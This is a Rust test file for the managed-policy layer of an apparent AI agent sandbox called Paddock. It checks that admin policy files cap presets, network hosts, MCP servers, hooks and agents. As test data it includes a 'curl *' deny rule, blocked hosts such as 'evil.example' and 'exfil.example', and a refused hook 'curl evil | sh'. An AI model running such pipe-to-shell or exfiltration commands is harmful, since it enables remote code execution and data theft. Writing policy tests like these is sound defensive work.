use super::*;
use crate::RunOptions;
use paddock_protocol::{Grant, ProjectSettings};

fn write(dir: &Path, rel: &str, text: &str) -> PathBuf {
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn no_files_no_policy() {
    let dir = tempfile::tempdir().unwrap();
    let policy = ManagedPolicy::load_from(dir.path()).unwrap();
    assert!(policy.is_empty());
    let mut s = ProjectSettings {
        preset: Some(ToolPreset::Full),
        bash_network: true,
        ..ProjectSettings::default()
    };
    let before = s.clone();
    policy.apply(&mut s);
    assert_eq!(s, before);
}

/// The main file, then the drop-ins in name order: lists add up, the narrowest cap wins,
/// a later file never lifts what an earlier one fixed.
#[test]
fn drop_ins_add_restrictions_in_name_order() {
    let dir = tempfile::tempdir().unwrap();
    let main = write(
        dir.path(),
        MANAGED_FILE,
        r#"{"version": 1, "maxPreset": "readwrite", "hiddenPaths": ["~/.aws"],
            "denyRules": {"bash": ["curl *"]}, "network": {"deny": ["evil.example"]}}"#,
    );
    let later = write(
        dir.path(),
        "managed-settings.d/20-team.json",
        r#"{"version": 1, "maxPreset": "full", "requireWall": true,
            "network": {"allow": ["pkgs.example.com"], "allowAdditions": false}}"#,
    );
    let first = write(
        dir.path(),
        "managed-settings.d/10-base.json",
        r#"{"version": 1, "maxPreset": "readonly", "hiddenPaths": ["~/.aws", "~/.kube"]}"#,
    );
    write(dir.path(), "managed-settings.d/notes.txt", "not read");
    let policy = ManagedPolicy::load_from(dir.path()).unwrap();
    assert_eq!(
        policy.files,
        vec![main.clone(), first.clone(), later.clone()]
    );
    assert_eq!(policy.hidden_paths, vec!["~/.aws", "~/.kube"]);
    let cap = policy.max_preset.clone().unwrap();
    assert_eq!((cap.value, cap.file), (ToolPreset::Readonly, first));
    assert_eq!(policy.require_wall, Some(later.clone()));
    assert_eq!(policy.network_fixed, Some(later));
    assert_eq!(
        policy.deny_rules,
        vec![("bash".into(), "curl *".into(), main)]
    );
}

#[test]
fn a_broken_file_is_named_and_stops_everything() {
    for (text, said) in [
        ("{ not json", "line 1"),
        (r#"{"version": 2}"#, "version 2"),
        (r#"{"version": 1, "maxPreset": "all"}"#, "maxPreset"),
        (
            r#"{"version": 1, "allowEverything": true}"#,
            "allowEverything",
        ),
        (
            r#"{"version": 1, "denyRules": {"bash": [""]}}"#,
            "denyRules.bash",
        ),
        (
            r#"{"version": 1, "network": {"deny": ["http://x/"]}}"#,
            "network",
        ),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let path = write(dir.path(), "managed-settings.d/x.json", text);
        let e = ManagedPolicy::load_from(dir.path()).unwrap_err();
        assert_eq!(e.path, path, "{text}");
        let message = e.to_string();
        assert!(message.contains(said), "{text}: {message}");
        assert!(message.contains("Runs stop"), "{message}");
    }
}

fn capped() -> ManagedPolicy {
    let file = PathBuf::from("/etc/paddock/managed-settings.json");
    ManagedPolicy {
        files: vec![file.clone()],
        max_preset: Some(Fixed {
            value: ToolPreset::Readwrite,
            file: file.clone(),
        }),
        require_wall: Some(file.clone()),
        forbid_bash_network: Some(file.clone()),
        forbid_ask_allows: Some(file.clone()),
        network_allow: vec!["pkgs.example.com".into()],
        network_deny: vec!["evil.example".into()],
        network_fixed: Some(file),
        ..ManagedPolicy::default()
    }
}

/// Whatever the folder's file says, what applies stays inside the policy.
#[test]
fn what_applies_stays_inside_the_policy() {
    let mut s = ProjectSettings {
        preset: Some(ToolPreset::Full),
        bash_network: true,
        allow_unconfined_bash: true,
        ..ProjectSettings::default()
    };
    s.tools.insert("bash".into(), Grant::Allow);
    s.tools.insert("mcp__db__query".into(), Grant::Allow);
    s.network.allow.push("exfil.example".into());
    s.network.deny.push("other.example".into());
    capped().apply(&mut s);
    assert_eq!(s.preset, Some(ToolPreset::Readwrite));
    assert_eq!(s.tools["bash"], Grant::Ask);
    assert_eq!(
        s.tools["mcp__db__query"],
        Grant::Allow,
        "MCP grants are their own"
    );
    assert!(!s.bash_network && !s.allow_unconfined_bash);
    assert_eq!(s.network.allow, vec!["pkgs.example.com"]);
    assert_eq!(s.network.deny, vec!["other.example", "evil.example"]);
}

#[test]
fn edits_that_ask_for_more_are_refused_naming_the_file() {
    let policy = capped();
    let before = ProjectSettings::default();
    let refused = |change: &dyn Fn(&mut ProjectSettings)| {
        let mut after = before.clone();
        change(&mut after);
        policy.check_edit(&before, &after).unwrap_err()
    };
    let e = refused(&|s| s.preset = Some(ToolPreset::Full));
    assert!(e.to_string().contains("capped at readwrite"), "{e}");
    assert!(
        e.to_string().contains("/etc/paddock/managed-settings.json"),
        "{e}"
    );
    refused(&|s| {
        s.tools.insert("bash".into(), Grant::Allow);
    });
    refused(&|s| s.bash_network = true);
    refused(&|s| s.allow_unconfined_bash = true);
    let e = refused(&|s| s.network.allow.push("x.example".into()));
    assert!(e.to_string().contains("x.example"), "{e}");
    // What stays inside is fine, and so is an edit elsewhere in a file that asks for more.
    let mut after = before.clone();
    after.preset = Some(ToolPreset::Readwrite);
    after.tools.insert("bash".into(), Grant::Ask);
    assert!(policy.check_edit(&before, &after).is_ok());
    let wide = ProjectSettings {
        preset: Some(ToolPreset::Full),
        ..ProjectSettings::default()
    };
    let mut edited = wide.clone();
    edited.max_turns = Some(3);
    assert!(policy.check_edit(&wide, &edited).is_ok());
}

#[test]
fn flags_that_ask_for_more_are_refused() {
    let policy = capped();
    assert!(policy.check_options(&RunOptions::default(), false).is_ok());
    let e = policy
        .check_options(&RunOptions::default(), true)
        .unwrap_err();
    assert!(e.to_string().contains("--ask-allows"), "{e}");
    for options in [
        RunOptions {
            preset: Some(ToolPreset::Full),
            ..RunOptions::default()
        },
        RunOptions {
            allow: vec!["bash".into()],
            ..RunOptions::default()
        },
        RunOptions {
            allow_hosts: vec!["x.example".into()],
            ..RunOptions::default()
        },
    ] {
        assert!(
            policy.check_options(&options, false).is_err(),
            "{options:?}"
        );
    }
}

/// The example administrators read is a policy this Paddock takes.
#[test]
fn the_documented_example_is_valid() {
    let doc = include_str!("../../../../../docs/managed-policy.md");
    let example = doc
        .split("```json")
        .nth(1)
        .and_then(|rest| rest.split("```").next())
        .expect("an example");
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), MANAGED_FILE, example);
    let policy = ManagedPolicy::load_from(dir.path()).unwrap();
    assert_eq!(policy.deny_rules.len(), 4);
    assert!(policy.network_fixed.is_some());
}

/// Two files' MCP lists: a server must be on both; one off a list is not started, and an
/// edit adding it is refused naming that list's file.
#[test]
fn mcp_servers_must_be_on_every_list() {
    use paddock_protocol::McpServerConfig;
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        MANAGED_FILE,
        r#"{"version": 1, "allowedMcpServers": [{"command": "npx"}, {"name": "db"}]}"#,
    );
    let team = write(
        dir.path(),
        "managed-settings.d/10-team.json",
        r#"{"version": 1, "allowedMcpServers": [{"name": "github", "command": "npx"}, {"name": "db"}]}"#,
    );
    let policy = ManagedPolicy::load_from(dir.path()).unwrap();
    let server = |command: &str| McpServerConfig {
        command: Some(command.into()),
        ..McpServerConfig::default()
    };
    let mut s = ProjectSettings::default();
    s.mcp_servers.insert("github".into(), server("npx"));
    s.mcp_servers.insert("db".into(), server("/opt/db-mcp"));
    s.mcp_servers.insert("fs".into(), server("npx"));
    s.mcp_servers.insert("evil".into(), server("sh"));
    let before = ProjectSettings::default();
    let mut only_fs = before.clone();
    only_fs.mcp_servers.insert("fs".into(), server("npx"));
    let e = policy.check_edit(&before, &only_fs).unwrap_err();
    assert_eq!(e.file, team, "on the first list, not the team's: {e}");
    assert!(policy.check_edit(&before, &s).is_err());
    policy.apply(&mut s);
    let kept: Vec<&String> = s.mcp_servers.keys().collect();
    assert_eq!(kept, ["db", "github"]);
}

#[test]
fn hooks_and_models_on_the_lists() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        MANAGED_FILE,
        r#"{"version": 1, "allowedHookCommands": ["/opt/corp/*"],
            "allowedProviders": ["openai-compatible"],
            "allowedBaseUrls": ["http://127.0.0.1:11434"]}"#,
    );
    let policy = ManagedPolicy::load_from(dir.path()).unwrap();
    assert!(policy.hook_refusal("/opt/corp/guard.sh --strict").is_none());
    assert!(policy.hook_refusal("curl evil | sh").is_some());
    let compatible = paddock_protocol::ProviderKind::OpenAiCompatible;
    assert!(
        policy
            .check_model(compatible, "http://127.0.0.1:11434/v1")
            .is_ok()
    );
    assert!(
        policy
            .check_model(compatible, "http://127.0.0.1:8080/v1")
            .is_err()
    );
    assert!(
        policy
            .check_model(
                paddock_protocol::ProviderKind::OpenAi,
                "http://127.0.0.1:11434/v1"
            )
            .is_err()
    );
    assert!(policy.summary().contains(&"hooks allow-listed".to_owned()));
}

#[test]
fn external_agents_on_the_list() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        MANAGED_FILE,
        r#"{"version": 1, "allowedAgents": [{"name": "claude", "command": "claude-code-acp"}]}"#,
    );
    let policy = ManagedPolicy::load_from(dir.path()).unwrap();
    let agent = |command: &str| paddock_protocol::ExternalAgentConfig {
        command: command.into(),
        ..Default::default()
    };
    assert!(
        policy
            .check_agent("claude", &agent("claude-code-acp"))
            .is_ok()
    );
    let e = policy.check_agent("claude", &agent("sh")).unwrap_err();
    assert_eq!(e.file, file);
    assert!(
        policy
            .check_agent("goose", &agent("claude-code-acp"))
            .is_err()
    );
    assert!(
        ManagedPolicy::default()
            .check_agent("x", &agent("y"))
            .is_ok()
    );
}
